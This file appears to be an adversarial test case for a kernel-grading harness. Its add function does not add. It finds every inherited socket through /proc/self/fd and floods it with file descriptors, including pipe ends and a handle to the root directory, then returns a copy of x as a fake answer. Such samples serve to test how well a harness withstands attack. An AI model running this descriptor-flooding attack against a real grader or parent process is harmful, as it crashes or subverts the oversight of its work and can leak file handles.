# expect: CRASHED|WRONG_VALUES
# layer: channel
# Sends descriptors without number along with its messages: folders, pipes, itself. Whoever keeps what he is sent
# soon can't open anything more, or holds a pipe that a thief reads from.

import os
import socket
from pathlib import Path

import torch
import triton
import triton.language as tl


@triton.jit
def _copy_kernel(x_ptr, out_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
    offsets = tl.program_id(axis=0) * BLOCK_SIZE + tl.arange(0, BLOCK_SIZE)
    mask = offsets < n_elements
    tl.store(out_ptr + offsets, tl.load(x_ptr + offsets, mask=mask), mask=mask)


def _guess(x):
    """A wrong answer that looks like one."""
    out = torch.empty_like(x)
    _copy_kernel[(triton.cdiv(x.numel(), 1024),)](x, out, x.numel(), BLOCK_SIZE=1024)
    return out


def _sockets():
    """Every socket that this process inherited."""
    for entry in Path("/proc/self/fd").iterdir():
        try:
            if os.readlink(entry).startswith("socket:"):
                yield socket.socket(fileno=os.dup(int(entry.name)))
        except OSError:
            continue


def add(x, y):
    reading, writing = os.pipe()
    folder = os.open("/", os.O_PATH)
    for end in _sockets():
        # As many as a message takes, in as many messages as the queue does.
        end.setblocking(False)
        try:
            for _ in range(100):
                socket.send_fds(end, [b"x"], [reading, writing, folder, end.fileno()] * 60)
        except OSError:
            continue
    return _guess(x)
